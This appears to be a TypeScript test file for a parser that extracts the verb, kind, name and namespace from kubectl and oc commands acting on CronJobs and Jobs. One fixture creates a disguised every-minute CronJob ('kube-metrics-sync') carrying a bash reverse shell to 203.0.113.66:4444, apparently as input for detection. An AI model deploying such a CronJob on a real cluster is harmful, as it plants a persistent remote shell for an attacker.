import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseClientCommand, splitCommandLine } from './client-commands.js';

test('quoted arguments stay one token and lose their quotes; backslashes are kept', () => {
  assert.deepEqual(
    splitCommandLine(`"C:\\Program Files\\kubectl.exe" --schedule="*/1 * * * *" -- sh -c 'id; ls'`),
    ['C:\\Program Files\\kubectl.exe', '--schedule=*/1 * * * *', '--', 'sh', '-c', 'id; ls'],
  );
});

const CASES: Array<{ line: string; expected: ReturnType<typeof parseClientCommand> }> = [
  {
    line: `"C:\\Program Files\\Kubernetes\\kubectl.exe" --kubeconfig C:\\Users\\Public\\k.conf create cronjob kube-metrics-sync --image=alpine:3.20 --schedule="*/1 * * * *" -- /bin/sh -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"`,
    expected: { verb: 'create', kind: 'CronJob', name: 'kube-metrics-sync' },
  },
  {
    line: 'kubectl -n payments create job db-backup-manual-q9z --from=cronjob/db-backup',
    expected: { verb: 'create', kind: 'Job', name: 'db-backup-manual-q9z', namespace: 'payments' },
  },
  {
    line: '/usr/local/bin/oc patch cj/db-backup --namespace=payments -p {"spec":{"suspend":true}}',
    expected: { verb: 'change', kind: 'CronJob', name: 'db-backup', namespace: 'payments' },
  },
  {
    line: 'kubectl --context prod set image cronjob/db-backup backup=ghcr.io/x/y:1 -n payments',
    expected: { verb: 'change', kind: 'CronJob', name: 'db-backup', namespace: 'payments' },
  },
  {
    line: 'kubectl delete jobs.batch old-run',
    expected: undefined, // `jobs.batch` is not a kind alias we know: no guess
  },
  {
    line: 'kubectl delete job old-run',
    expected: { verb: 'delete', kind: 'Job', name: 'old-run' },
  },
  { line: 'kubectl get cronjob db-backup -o yaml', expected: undefined },
  { line: 'kubectl apply -f cronjob.yaml', expected: undefined },
  { line: 'kubectl create deployment web --image=nginx', expected: undefined },
  { line: 'bash -c "kubectl create cronjob x --image=a"', expected: undefined },
];

for (const { line, expected } of CASES) {
  test(`kubectl command: ${line.slice(0, 70)}`, () => {
    assert.deepEqual(parseClientCommand(line), expected);
  });
}
